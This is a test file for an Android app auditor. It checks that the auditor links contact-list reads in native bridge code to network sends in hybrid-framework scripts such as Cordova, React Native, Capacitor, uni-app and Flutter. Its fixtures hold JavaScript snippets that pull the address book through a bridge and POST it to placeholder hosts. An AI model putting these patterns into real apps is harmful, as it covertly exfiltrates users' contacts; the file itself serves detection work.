"""From the app's own bridge to the script that sends: no name on either side speaks of the data.

`flow_shapes/bridges.java` is the DEX side: each class reads the address book and hands it to the
page, the bundle or Dart. The scripts stand here, in the containers of their frameworks.
"""

from __future__ import annotations

from functools import cache

import pytest

from auditor.catalog import Catalog
from auditor.dex import CodeIndex, DexInput
from auditor.facts import IndexedCode, bridges_of, read_hybrid
from auditor.flows.trace import Traced, trace_flows
from auditor.ingest import read_package_bytes
from auditor.model import Flow, Level, Manifest
from auditor.pipeline import Options, audit_package
from tests.axml import E, apk
from tests.axml import manifest as axml_manifest
from tests.facts_fixture import manifest, package
from tests.test_facts_compiled import hermes
from tests.test_flow_shapes import HERE, NoResources, components

CATALOG = Catalog()
SEND = "fetch('https://%s.test/u',{method:'POST',body:JSON.stringify({list:%s})})"
LIB = b"\x7fELF\0package:dio/dio.dart\0com.loan/book7\0https://flutter.test/api/\0"
HERMES = hermes(["NativeModules", "Native", "pull7", "https://hermes.test/api", "POST"])
METRO = "__d(function(g,r,i,a,m,e,d){var n=r(d[0]).NativeModules;%s},0,[1]);\n"


@cache
def side() -> tuple[CodeIndex, Traced]:
    code = CodeIndex.build([DexInput("classes.dex", (HERE / "bridges.dex").read_bytes())])
    of = Manifest("t", components=components(code), min_sdk=24, target_sdk=30)
    return code, trace_flows(code, of, NoResources(), CATALOG)


def links(path: str, data: bytes | str, bridged: bool = True) -> list[Flow]:
    code, traced = side()
    asked = IndexedCode(code)
    content = data if isinstance(data, bytes) else data.encode()
    files = {path: content} | ({"lib/arm64-v8a/libflutter.so": b""} if path.endswith(".so") else {})
    bridges = bridges_of(traced.flows, asked) if bridged else ()
    return list(read_hybrid(package(files, manifest("t")), asked, CATALOG, bridges).flows)


def test_the_dex_side_hands_contacts_over() -> None:
    code, traced = side()
    found = {f.sink.caller.partition("->")[0] for f in traced.flows if f.sink_kind == "web"}
    assert found == {
        "Lt/Dispatch;",
        "Lt/Handlers;",
        "Lt/Js;",
        "Lt/Plug;",
        "Lt/Native;",
        "Lt/Cap;",
        "Lt/Uni;",
        "Lt/Flut;",
    }
    names = {
        (b.methods or b.handlers, b.asked, b.actions, b.handed, b.channels)
        for b in bridges_of(traced.flows, IndexedCode(code))
    }
    assert names == {
        (("q7",), (), (), (), ()),
        (("ask",), (), (), ("onBook",), ()),
        ((), (), ("book7",), (), ()),
        (("pull7",), (), (), (), ()),
        (("fetch7",), (), (), (), ()),
        (("take7",), (), (), (), ()),
        (("h7",), (), (), (), ()),
        (("run",), ("addressBook", "getToken"), (), (), ()),
        ((), (), (), (), ("com.loan/book7",)),
    }


@pytest.mark.parametrize(
    ("path", "data", "host", "caller"),
    [
        pytest.param(
            "assets/h5/a.js",
            "var d=shell.q7();" + SEND % ("h5", "d"),
            "https://h5.test/u",
            "Lt/Js;->q7",
            id="method of a shell",
        ),
        pytest.param(
            "assets/h5/a.js",
            "window.onBook=function(d){" + SEND % ("called", "d") + "}",
            "https://called.test/u",
            "Lt/Js;->ask",
            id="function that the app calls",
        ),
        pytest.param(
            "assets/h5/a.js",
            "WebViewJavascriptBridge.callHandler('h7',{},function(d){" + SEND % ("h7", "d") + "})",
            "https://h7.test/u",
            "Lt/Handlers;",
            id="JsBridge",
        ),
        pytest.param(
            "assets/h5/a.js",
            "var d=mobile.run('addressBook','{}');" + SEND % ("run", "d"),
            "https://run.test/u",
            "Lt/Dispatch;->run",
            id="one method for all questions",
        ),
        pytest.param(
            "assets/www/a.js",
            "cordova.exec(function(d){" + SEND % ("cordova", "d") + "},null,'Svc','book7',[]);",
            "https://cordova.test/u",
            "Lt/Plug;->execute",
            id="Cordova",
        ),
        pytest.param(
            "assets/index.android.bundle",
            METRO % ("n.Native.pull7().then(function(d){" + SEND % ("rn", "d") + "})"),
            "https://rn.test/u",
            "Lt/Native;->pull7",
            id="React Native",
        ),
        pytest.param(
            "assets/public/a.js",
            "Capacitor.Plugins.Cap.fetch7().then(function(d){" + SEND % ("capacitor", "d.v") + "})",
            "https://capacitor.test/u",
            "Lt/Cap;->fetch7",
            id="Capacitor",
        ),
        pytest.param(
            "assets/apps/__UNI__1/www/app-service.js",
            "var u=uni.requireNativePlugin('Uni');u.take7(function(d){"
            "uni.request({url:'https://uni.test/u',method:'POST',data:{d:d}})});",
            "https://uni.test/u",
            "Lt/Uni;->take7",
            id="uni-app",
        ),
        pytest.param(
            "lib/arm64-v8a/libapp.so", LIB, "https://flutter.test/api/", "Lt/Flut;->onMethodCall",
            id="Flutter",
        ),
        pytest.param(
            "assets/index.android.bundle", HERMES, "https://hermes.test/api", "Lt/Native;->pull7",
            id="Hermes",
        ),
    ],
)  # fmt: skip
def test_contacts_to_host(path: str, data: bytes | str, host: str, caller: str) -> None:
    (flow,) = links(path, data)
    assert (flow.data_type, flow.level, flow.scope, flow.endpoint) == (
        "contacts", Level.LINKED, "bulk", host,
    )  # fmt: skip
    assert flow.steps[0].kind == "source"
    assert any(step.caller.startswith(caller) for step in flow.steps)
    assert (flow.sink.caller, flow.sink_kind) == (path, "network")
    assert links(path, data, bridged=False) == []


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("var d=shell.harmless();" + SEND % ("a", "d"), id="another method"),
        pytest.param("var d=mobile.run('getToken','');" + SEND % ("a", "d"), id="other question"),
        pytest.param(
            "WebViewJavascriptBridge.callHandler('h8',{},function(d){" + SEND % ("a", "d") + "})",
            id="another handler",
        ),
        pytest.param("shell.q7();" + SEND % ("a", "1"), id="asked for, not sent"),
        pytest.param("function onBook(d){console.log(d)}", id="called, not sent"),
        pytest.param(
            "cordova.exec(function(d){" + SEND % ("a", "d") + "},null,'Svc','other',[]);",
            id="another action",
        ),
    ],
)
def test_no_link(text: str) -> None:
    assert links("assets/h5/a.js", text) == []


def test_flutter_without_the_channel_is_not_linked() -> None:
    assert links("lib/arm64-v8a/libapp.so", LIB.replace(b"book7", b"other")) == []


def test_whole_audit_of_a_shell() -> None:
    """The same through the whole program: one APK with a page in its assets."""
    page = ("var d=shell.q7();" + SEND % ("h5", "d")).encode()
    code = (HERE / "bridges.dex").read_bytes()
    main = E("intent-filter", {}, (E("action", {"name": "android.intent.action.MAIN"}),))
    activity = E("activity", {"name": "t.Page", "exported": True}, (main,))
    root = axml_manifest(E("application", {"label": "Loan"}, (activity,)))
    report = audit_package(
        read_package_bytes("a.apk", apk(root, {"classes.dex": code, "assets/h5/a.js": page})),
        CATALOG,
        Options(quotes=False),
    )
    linked = [f for f in report.flows if f.level is Level.LINKED]
    assert [(f.data_type, f.endpoint, f.source.caller.partition("->")[0]) for f in linked] == [
        ("contacts", "https://h5.test/u", "Lt/U;")
    ]
    (sent,) = [e for e in report.endpoints if e.url == "https://h5.test/u"]
    assert (sent.data_types, sent.http_method, sent.basis) == (("contacts",), "POST", "none")
    shared = [p for p in report.practices if p.action == "share" and p.data_type == "contacts"]
    assert {(p.recipient, p.level) for p in shared} == {
        ("unknown", Level.LINKED),
        ("web_page", Level.TRACED),
    }
